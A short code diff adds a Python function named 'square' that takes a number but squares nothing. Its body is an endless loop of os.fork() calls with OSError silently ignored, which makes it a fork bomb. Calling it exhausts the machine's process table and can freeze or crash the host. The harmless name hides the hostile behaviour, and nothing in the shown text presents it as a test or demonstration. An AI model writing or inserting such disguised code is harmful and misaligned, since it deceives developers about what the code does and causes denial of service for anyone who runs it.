@@ -1,0 +1,9 @@
+import os
+
+
+def square(n):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
